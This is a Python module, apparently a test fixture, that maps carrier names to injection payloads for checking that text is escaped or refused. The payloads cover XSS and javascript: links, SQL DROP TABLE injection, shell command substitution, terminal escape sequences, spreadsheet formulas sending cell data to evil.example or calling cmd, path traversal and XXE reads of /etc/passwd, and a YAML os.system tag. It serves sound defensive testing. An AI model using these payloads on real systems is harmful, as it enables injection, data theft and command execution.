"""Texts that try to be more than texts, by the language in which they would act."""

from collections.abc import Mapping

CARRIERS: Mapping[str, str] = {
    "HTML": "<b>bold</b> & <img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "an attribute": '" onmouseover="alert(1)" x=\'',
    "a style": "</style><style>*{display:none}</style>",
    "a comment of HTML": "--><script>alert(1)</script><!--",
    "CSS": "red;background:url(//evil.example/x)}*{display:none",
    "a Markdown link": "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "a Markdown table": "a | b | c",
    "Markdown mark-up": "# head **bold** _it_ `code` ~~gone~~ [^1] $x$ @someone #1",
    "a bare link": "https://evil.example www.evil.example",
    "Mermaid": 'x"] --> n9["y"]; click n9 href "javascript:alert(1)" %%{init: {}}%% end',
    "Jinja": "{{ 7 * 7 }} {% for x in range(9) %}{{ x }}{% endfor %} {# gone #}",
    "Python": "{0.__class__} %(x)s %s ${HOME} __import__('os')",
    "SQL": "x'; DROP TABLE companies; -- \"; /* */",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned",
    "OSC, a title and a link": "a\x1b]0;owned\x07b\x1b]8;;http://evil.example\x1b\\c\x1b]8;;\x1b\\",
    "CSI, colour and clear": "a\x1b[31mb\x1b[2Jc\x1b[Hd",
    "C1": "a\x9b31mb\x9d0;owned\x9cc\x85d",
    "controls": "a\x07b\x08\x08c\x7fd\x0be\x0cf",
    "bidirectional": "abc\u202edef\u202c \u2066ghi\u2069 \u200fx",
    "invisible": "a\u200bbc\u00add\u2060e\U000e0041f",
    "a byte order mark": "a\ufeffb",
    "line separators": "a\u2028b\u2029c",
    "line breaks": "first\nsecond\r\nthird\r# fourth\n\n- fifth",
    "a GitHub command": "x\n::error file=a,line=1::owned%0A::warning::y",
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "a formula with a sign": "+1+cmd|' /C calc'!A0",
    "a formula of another kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a blank": " -2+3",
    "CSV": 'a,"b";c\t"d',
    "a path": "../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a path of Windows": "C:\\Windows\\win.ini..\\..\\x",
    "a device": "CON",
    "JSON": '"}], "injected": true, "x": [{"',
    "YAML": "x: {a: b}, &anchor *alias !!python/object:os.system [1]",
    "XML": "]]></error><failure message='x'/><!-- <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "an escape of spreadsheets": "a_x0041__x000D_b",
    "a half of a pair": "a\ud83d",
}

REFUSED_IN_FACTS = frozenset(
    {"OSC, a title and a link", "CSI, colour and clear", "C1", "controls", "a byte order mark", "a half of a pair"}
)
"""What no facts file may hold; it is refused with its place."""

REFUSED_IN_PACKS = frozenset({"Jinja", "a half of a pair"})
"""What would be a program, or is no text: refused with its place."""
